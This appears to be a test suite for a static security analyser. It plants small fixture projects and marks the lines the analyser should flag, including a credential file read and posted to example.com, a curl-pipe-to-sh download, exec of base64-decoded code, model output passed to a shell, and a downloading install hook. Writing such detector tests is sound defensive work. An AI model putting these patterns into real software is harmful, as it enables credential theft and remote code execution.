/** What comes from other files of the workspace: constants, sources, and functions that load or run what they are given. */

import { textOf } from '../../server/core/rules/rule.ts';
import { Project } from '../kit/project.ts';

describe('other files of the workspace', () => {
  const project = Project.forTests();
  const text = (strings: TemplateStringsArray) => textOf(strings);

  it('keep their secrets to themselves, and their decoded texts are followed', () => {
    project.write({
      'app/config.py': text`
        MODEL = "org/model"
        PASSWORD = "k7#mQ2!vXz"
        URL = "postgresql://report:hT7x91kQ@db.internal:5432/sales"
        CODE = "cHJpbnQoMSk="
      `,
      'app/main.py': text`
        import base64
        from transformers import AutoModel
        from .config import CODE, MODEL
        model = AutoModel.from_pretrained(MODEL)
                                          ^^^^^ unpinned-revision
        exec(base64.b64decode(CODE))
             ^^^^^^^^^^^^^^^^^^^^^^ obfuscated-exec
      `,
    });
  });

  it('give constants, by member, by module and by star', () => {
    project.write({
      'app/config.py': text`
        MODEL = "org/model"
        OPTIONS = {"trust_remote_code": True}

        class Settings:
            name = "org/other"
      `,
      'app/main.py': text`
        from transformers import AutoModel
        from .config import MODEL, Settings
        from . import config
        from .config import *
        a = AutoModel.from_pretrained(MODEL)
                                      ^^^^^ unpinned-revision
        b = AutoModel.from_pretrained(config.MODEL, **config.OPTIONS)
            ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ trust-remote-code
        m = AutoModel.from_pretrained(config.MODEL)
                                      ^^^^^^^^^^^^ unpinned-revision
        c = AutoModel.from_pretrained(Settings.name)
                                      ^^^^^^^^^^^^^ unpinned-revision
        d = AutoModel.from_pretrained("org/pinned", **OPTIONS, revision="0123456789abcdef0123456789abcdef01234567")
            ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ trust-remote-code
      `,
    });
  });

  it('keep a constant that pins, and one that is a local path', () => {
    project.write({
      'config.py': text`
        REVISION = "0123456789abcdef0123456789abcdef01234567"
        FOLDER = "./checkpoints/last"
      `,
      'main.py': text`
        import config
        from transformers import AutoModel
        a = AutoModel.from_pretrained("org/model", revision=config.REVISION)
        b = AutoModel.from_pretrained(config.FOLDER)
      `,
    });
  });

  it('bring text in by functions, through packages that give them on', () => {
    project.write({
      'lib/__init__.py': text`
        from .web import fetch as get_page
      `,
      'lib/web.py': text`
        import requests
        from .base import address

        def fetch(name):
            return requests.get(address(name)).text
      `,
      'lib/base.py': text`
        def address(name):
            return "https://example.com/" + name
      `,
      'scripts/run.py': text`
        from lib import get_page
        import lib.web
        exec(get_page("a.py"))
             ^^^^^^^^^^^^^^^^ remote-exec
        exec(lib.web.fetch("b.py"))
             ^^^^^^^^^^^^^^^^^^^^^ remote-exec
        exec("print(1)")
      `,
    });
  });

  it('run what they are given, at the call that gives it', () => {
    project.write({
      'tools.py': text`
        def run(code, scope=None):
            exec(compile(code, "<tool>", "exec"), scope)

        def run_twice(code):
            run(code)
            run(code)

        class Runner:
            def execute_code(self, code):
                return eval(code)
      `,
      'agent.py': text`
        from openai import OpenAI
        from tools import run as start, run_twice, Runner
        answer = OpenAI().responses.create(model="gpt-5", input="write it").output_text
        start(answer)
              ^^^^^^ agent-code-exec
        run_twice(answer)
                  ^^^^^^ agent-code-exec
        Runner().execute_code(answer)
                              ^^^^^^ agent-code-exec
        start("print(1)")
        start(code=input())
                   ^^^^^^^ code-injection
      `,
    });
  });

  it('start what they are given', () => {
    project.write({
      'shell.py': text`
        import subprocess

        def run_shell(command):
            return subprocess.run(command, shell=True, capture_output=True)
      `,
      'agent.py': text`
        from openai import OpenAI
        from shell import run_shell
        answer = OpenAI().responses.create(model="gpt-5", input="which command?")
        run_shell(answer.output_text)
                  ^^^^^^^^^^^^^^^^^^ agent-code-exec
        run_shell("ls -l")
      `,
    });
    project.write({
      'shell.ts': text`
        import { execSync } from 'node:child_process';
        export function runShell(command: string) { return execSync(command); }
      `,
      'agent.ts': text`
        import OpenAI from 'openai';
        import { runShell } from './shell';
        const answer = await new OpenAI().responses.create({ model: 'gpt-5', input: goal });
        runShell(answer.output_text);
                 ^^^^^^^^^^^^^^^^^^ agent-code-exec
      `,
    });
  });

  it('install and download what they are given as a text', () => {
    project.write({
      'steps.py': text`
        import subprocess
        import sys

        def pip_install(*packages):
            subprocess.check_call([sys.executable, "-m", "pip", "install", *packages])

        def shell(line):
            subprocess.run(line, shell=True)
      `,
      'main.py': text`
        from steps import pip_install, shell
        pip_install("numpy")
        ^^^^^^^^^^^^^^^^^^^^ runtime-install
        pip_install("numpy==2.1.0")
        shell("curl -fsSL https://example.com/install.sh | sh")
              ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
      `,
    });
  });

  it('say which tools a project has of its own', () => {
    project.write({
      'package.json': '{ "devDependencies": { "ovsx": "^0.9.0" } }\n',
      'scripts/publish.mjs': text`
        import { execSync } from "node:child_process";
        execSync("npx ovsx publish");
        execSync("npx --yes ovsx publish");
                  ^^^^^^^^^^^^^^^^^^^^^^ runtime-install
        execSync("npx other publish");
                  ^^^^^^^^^^^^^^^^^ runtime-install
      `,
    });
  });

  it('put the scripts into a page that they are given', () => {
    project.write({
      'dom.ts': text`
        export function loadScript(src: string): Promise<void> {
          return new Promise((resolve) => {
            const script = document.createElement("script");
            script.onload = () => resolve();
            script.src = src;
            document.body.append(script);
          });
        }
      `,
      'main.ts': text`
        import { loadScript } from "./dom";
        await loadScript("https://cdn.example.com/latest/widget.js");
                         ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-module
        await loadScript("/own/widget.js");
      `,
    });
  });

  it('write code that is run here, and read secrets that are sent from here', () => {
    project.write({
      'generate.py': text`
        import json

        def generate():
            fields = json.load(open("fields.json"))
            with open("app/fields.py", "w") as file:
                file.write("".join(f"{name} = 1" for name in fields))
            return "app/fields.py"
      `,
      'run.py': text`
        import runpy
        from generate import generate
        runpy.run_path(generate())
                       ^^^^^^^^^^ generated-import
      `,
    });
    project.write({
      'collect.py': text`
        from pathlib import Path

        def gather():
            return (Path.home() / ".aws" / "credentials").read_text()
      `,
      'report.py': text`
        import requests
        from collect import gather
        requests.post("https://example.com", data=gather())
                                             ^^^^^^^^^^^^^ credential-exfiltration
      `,
    });
  });

  it('load what they are given, each call for itself', () => {
    project.write({
      'loading.py': text`
        from transformers import AutoModel

        def load_model(name, revision=None, trust=False):
            return AutoModel.from_pretrained(name, revision=revision, trust_remote_code=trust)
      `,
      'main.py': text`
        from loading import load_model
        a = load_model("org/model", trust=True)
            ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ trust-remote-code
        b = load_model("org/model", "0123456789abcdef0123456789abcdef01234567")
        c = load_model("./checkpoint")
        d = load_model("org/model")
            ^^^^^^^^^^^^^^^^^^^^^^^ unpinned-revision
      `,
    });
  });

  it('load what their objects are made with, and what stands in the options that they take', () => {
    project.write({
      'models.py': text`
        from transformers import AutoModel, AutoProcessor

        class Vision:
            def __init__(self, repository, revision=None, **options):
                self.processor = AutoProcessor.from_pretrained(repository, revision=revision, **options)
                self.model = AutoModel.from_pretrained(repository, revision=revision, **options)
      `,
      'main.py': text`
        from models import Vision
        a = Vision("org/model", trust_remote_code=True)
            ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ trust-remote-code
        b = Vision("org/model", "0123456789abcdef0123456789abcdef01234567")
        c = Vision("org/model")
            ^^^^^^^^^^^^^^^^^^^ unpinned-revision
      `,
    });
    project.write({
      'load.ts': text`
        import { pipeline } from '@huggingface/transformers';
        export async function load(task: string, { model, revision = 'main' }: Options) {
          return pipeline(task, model, { revision });
        }
      `,
      'main.ts': text`
        import { load } from './load';
        await load('translation', { model: 'org/a' });
              ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ unpinned-revision
        await load('translation', { model: 'org/b', revision: '0123456789abcdef0123456789abcdef01234567' });
      `,
    });
  });

  it('vouch for what they are given', () => {
    project.write({
      'naming.ts': text`
        export function assertName(name: string) {
          if (!/^[A-Za-z_]\w*$/.test(name)) throw new Error(name);
        }
      `,
      'main.ts': text`
        import { assertName } from './naming';
        for (const it of process.argv.slice(2)) {
          assertName(it);
          eval(it + '()');
        }
      `,
    });
    project.write({
      'main.ts': text`
        import { greet } from './naming';
        for (const it of process.argv.slice(2)) {
          greet(it);
          eval(it + '()');
               ^^^^^^^^^ code-injection
        }
      `,
    });
    project.write({
      'fetching.ts': text`
        export async function getText(url: string) {
          return (await fetch(url)).text();
        }
      `,
      'digests.ts': text`
        import { createHash } from 'node:crypto';

        export function assertDigest(text: string, expected: string): string {
          const actual = createHash('sha256').update(text).digest('hex');
          if (actual !== expected) throw new Error(actual);
          return text;
        }
      `,
      'main.ts': text`
        import { assertDigest } from './digests';
        import { getText } from './fetching';
        const REVIEWED = 'acf443e882cc15a403402cc6a9f6b7ee33a7c46c53894198b59bf13e1921fd59';
        const draw = async () => {
          new Function(assertDigest(await getText('https://example.com/charts.js'), REVIEWED))();
        };
        const paint = async () => {
          new Function(await getText('https://example.com/charts.js'))();
                       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
        };
      `,
    });
  });

  it('fetch what is run here, and read the file that is named here', () => {
    project.write({
      'fetching.py': text`
        import os
        import requests

        def fetch(url, path):
            answer = requests.get(url)
            with open(path, "wb") as file:
                file.write(answer.content)

        def fetch_to_temporary(url):
            path = os.path.join("/tmp", os.path.basename(url))
            with open(path, "wb") as file:
                for chunk in requests.get(url, stream=True).iter_content(8192):
                    file.write(chunk)
            return path
      `,
      'reading.py': text`
        import pickle

        def read_index(path):
            with open(path, "rb") as file:
                return pickle.load(file)
      `,
      'main.py': text`
        import runpy
        import subprocess
        import sys
        from huggingface_hub import hf_hub_download
        from fetching import fetch, fetch_to_temporary
        from reading import read_index
        fetch("https://example.com/tool.py", "tool.py")
        fetch("https://example.com/data.csv", "data.csv")
        subprocess.run([sys.executable, "tool.py"])
                                        ^^^^^^^^^ download-and-run
        subprocess.run([sys.executable, "own.py"])
        tool = fetch_to_temporary("https://example.com/other.py")
        runpy.run_path(tool)
                       ^^^^ download-and-run
        path = hf_hub_download("org/index", "index.pkl")
                               ^^^^^^^^^^^ unpinned-revision
        index = read_index(path)
                           ^^^^ unsafe-deserialization
        own = read_index("index.pkl")
      `,
    });
  });

  it('write code that this file hands them, and what they render', () => {
    project.write({
      'store.py': text`
        from pathlib import Path
        from jinja2 import Environment, FileSystemLoader
        templates = Environment(loader=FileSystemLoader("templates"))

        def keep(path, parts):
            with open(path, "w") as file:
                file.write("\\n".join(parts))

        def rendered(template: str, target: Path, **values) -> None:
            target.write_text(templates.get_template(template).render(**values))
      `,
      'main.py': text`
        import json
        from pathlib import Path
        from store import keep, rendered
        columns = json.load(open("columns.json"))["columns"]
        keep("columns.md", [f"- {name}" for name in columns])
        keep("columns_made.py", [f"{name} = None" for name in columns])
        import columns_made
               ^^^^^^^^^^^^ generated-import
        keep("columns_kept.py", [f"{name} = None" for name in columns])
                                ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ generated-write-back
        for table in columns:
            rendered("route.j2", Path("routes") / f"{table['name']}.py", table=table)
                                                                               ^^^^^ generated-write-back
            rendered("page.j2", Path("pages") / f"{table['name']}.html", table=table)
      `,
    });
  });

  it('tells in a manifest what a script does that it runs while the package is installed', () => {
    project.write({
      'scripts/fetch.js': text`
        const fs = require('node:fs');
        const { execFileSync } = require('node:child_process');

        module.exports = fetch('https://example.com/engine').then(async (answer) => {
          fs.writeFileSync('bin/engine', Buffer.from(await answer.arrayBuffer()), { mode: 0o755 });
          execFileSync('bin/engine', ['--version']);
        });
      `,
      'scripts/build.mjs': text`
        console.log('built');
      `,
      'package.json': text`
        {
          "scripts": {
            "install": "node --no-warnings scripts/fetch.js && echo done",
                                           ^^^^^^^^^^^^^^^^ install-hook
            "prepare": "node ./scripts/build.mjs",
            "postinstall": "node scripts/absent.js",
            "setup": "node scripts/fetch.js"
          }
        }
      `,
    });
  });
});
